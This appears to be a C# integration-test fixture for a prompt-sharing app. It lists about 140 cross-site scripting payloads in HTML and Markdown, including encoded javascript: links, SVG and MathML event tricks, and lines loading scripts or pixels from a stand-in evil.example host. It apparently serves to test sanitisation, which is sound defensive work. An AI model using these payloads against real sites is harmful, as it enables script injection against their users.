namespace PromptStash.IntegrationTests.Sharing;

/// <summary>What has made a browser run something somewhere, in HTML, in Markdown and in both.</summary>
internal static class Attacks
{
    /// <summary>One a line.</summary>
    private const string Payloads =
        """"
        <script>alert(1)</script>
        <SCRIPT SRC=//evil.example/x.js></SCRIPT>
        <scr<script>ipt>alert(1)</scr</script>ipt>
        <img src=x onerror=alert(1)>
        <img src="x" onerror="alert(1)" />
        <IMG SRC=javascript:alert(1)>
        <IMG SRC="jav&#x09;ascript:alert(1);">
        <IMG """><SCRIPT>alert(1)</SCRIPT>">
        <img/src="x"/onerror=alert(1)>
        <svg onload=alert(1)>
        <svg/onload=alert(1)>
        <svg><script>alert(1)</script></svg>
        <svg><script xlink:href=data:,alert(1) />
        <svg><animate onbegin=alert(1) attributeName=x dur=1s>
        <svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>
        <svg><set attributeName=href to=javascript:alert(1)>
        <svg><foreignObject><body onload=alert(1)></foreignObject></svg>
        <svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x">
        <math><mi//xlink:href="data:x,<script>alert(1)</script>">
        <math href="javascript:alert(1)">x</math>
        <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
        <body onload=alert(1)>
        <body background="javascript:alert(1)">
        <iframe src=javascript:alert(1)></iframe>
        <iframe srcdoc="<script>alert(1)</script>"></iframe>
        <iframe src="data:text/html,<script>alert(1)</script>"></iframe>
        <object data="javascript:alert(1)"></object>
        <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
        <embed src="javascript:alert(1)">
        <embed src="data:image/svg+xml;base64,PHN2Zz4=">
        <applet code="x"></applet>
        <form action="javascript:alert(1)"><input type=submit></form>
        <form><button formaction="javascript:alert(1)">x</button></form>
        <input autofocus onfocus=alert(1)>
        <input type="image" src="javascript:alert(1)">
        <select autofocus onfocus=alert(1)>
        <textarea autofocus onfocus=alert(1)>
        <keygen autofocus onfocus=alert(1)>
        <video><source onerror="alert(1)"></video>
        <video src=x onerror=alert(1)></video>
        <video poster=javascript:alert(1)></video>
        <audio src=x onerror=alert(1)>
        <details open ontoggle=alert(1)>
        <marquee onstart=alert(1)>
        <meter onmouseover=alert(1)>0</meter>
        <div style="background:url(javascript:alert(1))">
        <div style="width:expression(alert(1))">
        <div onmouseover="alert(1)">x</div>
        <div onclick=alert(1) style=position:fixed;inset:0>x</div>
        <style>@import 'javascript:alert(1)';</style>
        <style>body{background:url("//evil.example/x")}</style>
        <link rel=stylesheet href="javascript:alert(1)">
        <link rel="import" href="data:text/html,<script>alert(1)</script>">
        <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
        <meta http-equiv="refresh" content="0;url=//evil.example/">
        <base href="javascript:alert(1)//">
        <base href="//evil.example/">
        <table background="javascript:alert(1)"><td>x</td></table>
        <td background="javascript:alert(1)">x</td>
        <a href="javascript:alert(1)">x</a>
        <a href="JaVaScRiPt:alert(1)">x</a>
        <a href="java&#0000115;cript:alert(1)">x</a>
        <a href=" &#14; javascript:alert(1)">x</a>
        <a href="javascript&colon;alert(1)">x</a>
        <a href="vbscript:msgbox(1)">x</a>
        <a href="data:text/html,<script>alert(1)</script>">x</a>
        <a href="#" onclick=alert(1)>x</a>
        <a href="feed:javascript:alert(1)">x</a>
        <a href="blob:null/x">x</a>
        <a href="file:///etc/passwd">x</a>
        <a target="_blank" href="https://evil.example/" ping="//evil.example/p">x</a>
        <noscript><p title="</noscript><img src=x onerror=alert(1)>">
        <template><script>alert(1)</script></template>
        <title><img src=x onerror=alert(1)></title>
        <textarea><img title="</textarea><img src=x onerror=alert(1)>">
        <!--><script>alert(1)</script>-->
        <!-- --!><script>alert(1)</script> -->
        <!--[if IE]><script>alert(1)</script><![endif]-->
        <?xml version="1.0"?><script>alert(1)</script>
        <![CDATA[<script>alert(1)</script>]]>
        <xss id=x onfocus=alert(1) tabindex=1>
        <x contenteditable onblur=alert(1)>x</x>
        <portal src="javascript:alert(1)">
        <slot onslotchange=alert(1)>
        <isindex type=image src=1 onerror=alert(1)>
        <frameset onload=alert(1)>
        <frameset><frame src="javascript:alert(1)"></frameset>
        [x](javascript:alert(1))
        [x](JAVASCRIPT:alert(1))
        [x]( javascript:alert(1))
        [x](<javascript:alert(1)>)
        [x](javascript&#58;alert(1))
        [x](javas&#99;ript:alert(1))
        [x](java&NewLine;script:alert(1))
        [x](java&Tab;script:alert(1))
        [x](\x6Aavascript:alert(1))
        [x](vbscript:msgbox(1))
        [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
        [x](file:///etc/passwd)
        [x](blob:null/x)
        [x](https://ok.example/ "onclick=alert(1)")
        [x](https://ok.example/"onmouseover="alert(1))
        [x](https://ok.example/'><script>alert(1)</script>)
        ![x](javascript:alert(1))
        ![x](https://evil.example/pixel.png)
        ![x](data:image/svg+xml,<svg onload=alert(1)>)
        ![x"onerror="alert(1)](x)
        ![](x "onerror=alert(1)")
        <javascript:alert(1)>
        <JaVaScRiPt:alert(1)>
        <vbscript:msgbox(1)>
        <data:text/html,alert(1)>
        [x]: javascript:alert(1)
        [x][y]
        [a]: data:text/html,<script>alert(1)</script>
        # <img src=x onerror=alert(1)>
        > <img src=x onerror=alert(1)>
        - <img src=x onerror=alert(1)>
        | <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |
        `<script>alert(1)</script>`
        **<svg onload=alert(1)>**
        [<img src=x onerror=alert(1)>](https://ok.example/)
        [![x](javascript:alert(1))](javascript:alert(2))
        &lt;script&gt;alert(1)&lt;/script&gt;
        &#60;script&#62;alert(1)&#60;/script&#62;
        javascript:alert(1)
        www.ok.example/javascript:alert(1)
        https://ok.example/"><script>alert(1)</script>
        <p/onclick=alert(1)>x
        </p><script>alert(1)</script>
        ```html"><script>alert(1)</script>
        ~~~ onclick=alert(1)
        """";

    public static readonly string[] All = Payloads.Split('\n');
}
